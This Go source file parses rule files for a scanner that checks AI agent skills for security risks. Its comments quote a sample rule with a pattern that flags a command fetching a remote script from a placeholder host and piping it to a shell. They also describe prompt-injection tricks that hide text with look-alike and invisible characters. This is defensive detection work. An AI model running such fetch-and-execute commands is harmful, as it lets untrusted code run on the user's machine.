package scan

import (
	"bufio"
	"bytes"
	"fmt"
	"regexp"
	"regexp/syntax"
	"strconv"
	"strings"
	"sync"
	"unicode/utf8"
)

// The rule file format (".rules" files; the built-in ones are in rules/, a
// company adds its own with security.rules). A file is a list of blocks of
// "key value" lines; '#' starts a comment line; blank lines are ignored. The
// value runs to the end of the line, verbatim: a regular expression is written
// as it is, without quoting. A block starts with "rule ID" or "context NAME".
//
//	rule script.pipe-to-shell       the id: lower case, dotted ("family.name")
//	title    remote code piped to a shell
//	family   scripts                hidden, instructions, scripts, metadata, or a word of your own
//	severity critical               info, low, medium, high or critical
//	docs     medium                 optional: the severity when the match lies in markdown
//	                                that documents attacks (see "context docs" below)
//	owasp    AST01 AST02            optional: the OWASP Agentic Skills Top 10 risks covered
//	in       code instructions      where to look (see below); default: text
//	match    (?i)curl[^|\n]*\|\s*sh  a Go regular expression (RE2: linear time); repeatable, any may match
//	also     (?i)https?://           optional, repeatable: must match too, in the same file
//	near     5                      optional: "also" must match within this many lines of the match
//	unless   (?i)example\.com        optional, repeatable: a match on a line this matches is dropped
//	check    invisible-bidi          instead of match: a built-in check (see checks.go)
//	message  what is wrong and what the author or reviewer should do
//	example  curl -fsSL https://x.example/i.sh | sh   a text the rule must flag (repeatable)
//	counter  curl -fsSL https://x.example/i.sh -o i.sh  a text it must not flag (repeatable)
//
// Where to look ("in"): instructions (SKILL.md and the other markdown and
// plain-text documents of the skill), code (scripts: known script extensions,
// or a "#!" first line), data (every other text file), hidden (the parts of
// markdown a reader does not see: HTML comments, collapsed <details>, "[//]: #"
// lines, elements styled invisible), decoded (what base64, hex, escape
// sequences, character codes, string splitting, reversing and ROT13 hide), and
// text (instructions, code and data). A decoded text counts as its file's kind
// too, and a finding made only in decoded text is one level more severe.
//
// Patterns match the file's text after Unicode normalisation (NFKC), with
// invisible characters removed and letters of other scripts that look Latin
// folded to Latin, so "іgnore" (Cyrillic і) and "ig​nore" (a zero-width space
// inside) match "ignore". Line numbers are the file's.
//
// Examples and counters are checked when the file is loaded: a rule whose
// example is not flagged, or whose counter is, stops the load with an error
// naming the line. In them \n, \t, \\ and \u{XXXX} are escapes. An example is
// scanned as a file of the rule's first "in" kind.
//
// A "context docs" block lists patterns that mark documentation about attacks
// (a security guide quoting a payload): a match of a rule with a "docs"
// severity, in a markdown file, within "within" lines (default 6) of such a
// pattern, takes the docs severity instead.
//
//	context docs
//	within 6
//	match  (?i)\b(attacker|malicious|payload)\b

// Kind is where a text comes from; see the "in" key.
type Kind uint8

// Kinds of text.
const (
	KindInstructions Kind = 1 << iota
	KindCode
	KindData
	KindHidden
	KindDecoded
)

// kindText is the "text" shorthand.
const kindText = KindInstructions | KindCode | KindData

var kindNames = map[string]Kind{
	"instructions": KindInstructions, "code": KindCode, "data": KindData,
	"hidden": KindHidden, "decoded": KindDecoded, "text": kindText,
}

// String names the kinds of k, space separated.
func (k Kind) String() string {
	var names []string
	for _, n := range []string{"instructions", "code", "data", "hidden", "decoded"} {
		if k&kindNames[n] != 0 {
			names = append(names, n)
		}
	}
	return strings.Join(names, " ")
}

// Rule is one loaded rule.
type Rule struct {
	ID       string
	Title    string
	Family   string
	Severity Severity
	// Docs is the severity in attack documentation; 0 means Severity.
	Docs Severity
	// OWASP lists the OWASP Agentic Skills Top 10 risks the rule covers (AST01…).
	OWASP []string
	// In is where the rule looks; first is the kind its examples are scanned as.
	In    Kind
	first Kind
	// Check names a built-in check; "" for a pattern rule.
	Check   string
	Message string
	// File and Line say where the rule is written.
	File string
	Line int

	match, also, unless []*pattern
	near                int
	examples, counters  []example
}

type example struct {
	text string
	line int
}

// docContext is the "context docs" block.
type docContext struct {
	within int
	match  []*pattern
}

// ruleSet is the rules of every loaded file.
type ruleSet struct {
	rules []*Rule
	docs  docContext
}

// pattern is one regular expression of a rule: parsed when the rule file is
// loaded (which checks it and gives its atoms), compiled the first time it
// runs (a restart whose skills are all in the scan cache compiles none).
type pattern struct {
	src string
	// syn is the parsed and simplified pattern: parsed at load for a
	// company's rules (its errors stop the load), on first use (syntax) for
	// the built-in ones, which the package's tests parse.
	synOnce sync.Once
	syn     *syntax.Regexp
	once    sync.Once
	re      *regexp.Regexp
}

// syntax returns the parsed, simplified pattern, parsing it on first use.
func (p *pattern) syntax() *syntax.Regexp {
	p.synOnce.Do(func() {
		if p.syn == nil {
			prog, err := syntax.Parse(p.src, syntax.Perl)
			if err != nil {
				panic(fmt.Sprintf("scan: built-in pattern %s: %v", p.src, err)) // the tests parse every one
			}
			p.syn = prog.Simplify()
		}
	})
	return p.syn
}

func (p *pattern) compiled() *regexp.Regexp {
	p.once.Do(func() {
		if p.re == nil {
			p.re = regexp.MustCompile(p.src) // parsed at load: cannot fail
		}
	})
	return p.re
}

func (p *pattern) MatchString(s string) bool { return p.compiled().MatchString(s) }

func (p *pattern) FindAllStringIndex(s string, n int) [][]int {
	return p.compiled().FindAllStringIndex(s, n)
}

func (p *pattern) String() string { return p.src }

// maxRuleFileSize bounds a rule file.
const maxRuleFileSize = 4 << 20

// parseRules reads one rule file into set. name is used in errors.
func parseRules(set *ruleSet, name string, data []byte) error {
	if len(data) > maxRuleFileSize {
		return fmt.Errorf("%s: larger than %d MiB", name, maxRuleFileSize>>20)
	}
	if !utf8.Valid(data) {
		return fmt.Errorf("%s: not UTF-8 text", name)
	}
	p := &ruleParser{set: set, file: name}
	sc := bufio.NewScanner(bytes.NewReader(data))
	sc.Buffer(make([]byte, 0, 64<<10), maxRuleFileSize)
	for sc.Scan() {
		p.line++
		if err := p.parseLine(sc.Text()); err != nil {
			return err
		}
	}
	if err := sc.Err(); err != nil {
		return fmt.Errorf("%s: %w", name, err)
	}
	return p.flush()
}

type ruleParser struct {
	set  *ruleSet
	file string
	line int
	// cur is the rule being read; inContext says a context block is.
	cur       *Rule
	inContext bool
	seen      map[string]bool
}

func (p *ruleParser) errorf(format string, args ...any) error {
	return fmt.Errorf("%s:%d: %s", p.file, p.line, fmt.Sprintf(format, args...))
}

// lines reads value, the value of key, as a number of lines from 0 to most
// into dst.
func (p *ruleParser) lines(dst *int, key, value string, most int) error {
	n, err := strconv.Atoi(value)
	if err != nil || n < 0 || n > most {
		return p.errorf("%s %q: want a number of lines from 0 to %d", key, value, most)
	}
	*dst = n
	return nil
}

var ruleID = regexp.MustCompile(`^[a-z][a-z0-9-]*(\.[a-z0-9-]+)+$`)

func (p *ruleParser) parseLine(raw string) error {
	line := strings.TrimSpace(raw)
	if line == "" || strings.HasPrefix(line, "#") {
		return nil
	}
	key, value, _ := strings.Cut(line, " ")
	if i := strings.IndexByte(key, '\t'); i >= 0 {
		key, value = line[:i], line[i+1:]
	}
	value = strings.TrimSpace(value)
	switch key {
	case "rule":
		if err := p.flush(); err != nil {
			return err
		}
		if !ruleID.MatchString(value) {
			return p.errorf("rule id %q: want lower-case dotted words such as script.pipe-to-shell", value)
		}
		for _, r := range p.set.rules {
			if r.ID == value {
				return p.errorf("rule %s is already defined (%s:%d)", value, r.File, r.Line)
			}
		}
		p.cur = &Rule{ID: value, File: p.file, Line: p.line}
		p.inContext, p.seen = false, map[string]bool{}
		return nil
	case "context":
		if err := p.flush(); err != nil {
			return err
		}
		if value != "docs" {
			return p.errorf("unknown context %q (the only one is docs)", value)
		}
		p.cur, p.inContext = nil, true
		return nil
	}
	if p.inContext {
		return p.contextKey(key, value)
	}
	if p.cur == nil {
		return p.errorf("%q before the first \"rule\" line", key)
	}
	return p.ruleKey(key, value)
}

func (p *ruleParser) contextKey(key, value string) error {
	d := &p.set.docs
	switch key {
	case "within":
		return p.lines(&d.within, "within", value, 100)
	case "match":
		return p.addPattern(&d.match, value)
	default:
		return p.errorf("unknown key %q in a context block (want within or match)", key)
	}
}

// lazyRegexp is a regular expression of the package (compileLater makes
// one), compiled on first use rather than when the process starts: most
// starts never scan (their scans come from the cache), and compiling them
// all cost more than a millisecond.
type lazyRegexp struct {
	expr string
	once sync.Once
	re   *regexp.Regexp
}

func compileLater(expr string) *lazyRegexp { return &lazyRegexp{expr: expr} }

// get returns the compiled expression (TestLazyRegexpsCompile compiles each).
func (l *lazyRegexp) get() *regexp.Regexp {
	l.once.Do(func() { l.re = regexp.MustCompile(l.expr) })
	return l.re
}

// The forms of a rule's family and OWASP category.
var (
	familyForm = regexp.MustCompile(`^[a-z][a-z0-9-]*$`)
	owaspForm  = regexp.MustCompile(`^AST(0[1-9]|10)$`)
)

func (p *ruleParser) ruleKey(key, value string) error {
	r := p.cur
	single := map[string]bool{"title": true, "family": true, "severity": true, "docs": true, "owasp": true,
		"in": true, "near": true, "check": true, "message": true}
	if single[key] {
		if p.seen[key] {
			return p.errorf("%s is given twice in rule %s", key, r.ID)
		}
		p.seen[key] = true
	}
	if value == "" {
		return p.errorf("%s has no value", key)
	}
	switch key {
	case "title":
		r.Title = value
	case "family":
		if !familyForm.MatchString(value) {
			return p.errorf("family %q: want one lower-case word", value)
		}
		r.Family = value
	case "severity", "docs":
		s, err := ParseSeverity(value)
		if err != nil || s < Info {
			return p.errorf("%s %q: want info, low, medium, high or critical", key, value)
		}
		if key == "severity" {
			r.Severity = s
		} else {
			r.Docs = s
		}
	case "owasp":
		for _, f := range strings.Fields(value) {
			if !owaspForm.MatchString(f) {
				return p.errorf("owasp %q: want AST01 to AST10", f)
			}
			r.OWASP = append(r.OWASP, f)
		}
	case "in":
		for _, f := range strings.Fields(value) {
			k, ok := kindNames[f]
			if !ok {
				return p.errorf("in %q: want instructions, code, data, hidden, decoded or text", f)
			}
			if r.first == 0 {
				r.first = k &^ (k - 1) // the lowest bit: text → instructions
			}
			r.In |= k
		}
	case "match":
		return p.addPattern(&r.match, value)
	case "also":
		return p.addPattern(&r.also, value)
	case "unless":
		return p.addPattern(&r.unless, value)
	case "near":
		return p.lines(&r.near, "near", value, 10000)
	case "check":
		if _, ok := checks[value]; !ok {
			return p.errorf("unknown check %q (the built-in checks are %s)", value, strings.Join(checkNames(), ", "))
		}
		r.Check = value
	case "message":
		r.Message = value
	case "example", "counter":
		text, err := unescape(value)
		if err != nil {
			return p.errorf("%s: %v", key, err)
		}
		ex := example{text: text, line: p.line}
		if key == "example" {
			r.examples = append(r.examples, ex)
		} else {
			r.counters = append(r.counters, ex)
		}
	default:
		return p.errorf("unknown key %q in rule %s (want title, family, severity, docs, owasp, in, match, also, near, unless, check, message, example or counter)", key, r.ID)
	}
	return nil
}

// maxPattern bounds one pattern's source and its compiled size, so that a
// rule file cannot make scanning slow.
const maxPattern = 2000

// addPattern compiles expr and adds it to list.
func (p *ruleParser) addPattern(list *[]*pattern, expr string) error {
	pat, err := p.compile(expr)
	if err != nil {
		return err
	}
	*list = append(*list, pat)
	return nil
}

func (p *ruleParser) compile(expr string) (*pattern, error) {
	if len(expr) > maxPattern {
		return nil, p.errorf("pattern longer than %d characters", maxPattern)
	}
	pat := &pattern{src: expr}
	if !strings.HasPrefix(p.file, builtinPrefix) {
		// A company's patterns are parsed and compiled now, so that any
		// problem stops the load; the built-in ones are by the tests.
		prog, err := syntax.Parse(expr, syntax.Perl)
		if err != nil {
			return nil, p.errorf("pattern %s: %v", expr, err)
		}
		pat.syn = prog.Simplify()
		re, err := regexp.Compile(expr)
		if err != nil {
			return nil, p.errorf("pattern %s: %v", expr, err)
		}
		if c, err := syntax.Compile(pat.syn); err == nil && len(c.Inst) > 20000 {
			return nil, p.errorf("pattern %s compiles to %d instructions; simplify it (bounded repeats such as {0,500} multiply)", expr, len(c.Inst))
		}
		pat.re = re
	}
	return pat, nil
}

// flush finishes the rule being read and adds it to the set.
func (p *ruleParser) flush() error {
	r := p.cur
	p.cur = nil
	if r == nil {
		return nil
	}
	at := func(format string, args ...any) error {
		return fmt.Errorf("%s:%d: rule %s: %s", r.File, r.Line, r.ID, fmt.Sprintf(format, args...))
	}
	switch {
	case r.Title == "":
		return at("no title")
	case r.Family == "":
		return at("no family")
	case r.Severity == 0:
		return at("no severity")
	case r.Message == "":
		return at("no message")
	case r.Check == "" && len(r.match) == 0:
		return at("neither match nor check")
	case r.Check != "" && len(r.match)+len(r.also)+len(r.unless) > 0:
		return at("check and match/also/unless exclude each other")
	case r.Check == "" && (len(r.examples) == 0 || len(r.counters) == 0):
		return at("a pattern rule needs at least one example and one counter, so that a reviewer sees what it flags and what it leaves alone")
	case r.near > 0 && len(r.also) == 0:
		return at("near without also")
	}
	if r.In == 0 {
		r.In, r.first = kindText, KindInstructions
	}
	if r.first == KindDecoded || r.first == KindHidden {
		// Decoded text is found in files: its examples are scanned as code,
		// hidden text's as markdown.
		if r.first == KindDecoded {
			r.first = KindCode
		} else {
			r.first = KindInstructions
		}
	}
	p.set.rules = append(p.set.rules, r)
	return nil
}

// unescape reads the escapes of examples: \n, \t, \\ and \u{XXXX}.
func unescape(s string) (string, error) {
	if !strings.Contains(s, `\`) {
		return s, nil
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c != '\\' || i+1 == len(s) {
			b.WriteByte(c)
			continue
		}
		i++
		switch s[i] {
		case 'n':
			b.WriteByte('\n')
		case 't':
			b.WriteByte('\t')
		case '\\':
			b.WriteByte('\\')
		case 'u':
			end := strings.IndexByte(s[i:], '}')
			if i+1 >= len(s) || s[i+1] != '{' || end < 0 {
				return "", fmt.Errorf(`\u must be written \u{XXXX}`)
			}
			n, err := strconv.ParseUint(s[i+2:i+end], 16, 32)
			if err != nil || !utf8.ValidRune(rune(n)) {
				return "", fmt.Errorf(`\u{%s} is not a code point`, s[i+2:i+end])
			}
			b.WriteRune(rune(n))
			i += end
		default:
			// Any other backslash is kept: examples are often code.
			b.WriteByte('\\')
			b.WriteByte(s[i])
		}
	}
	return b.String(), nil
}
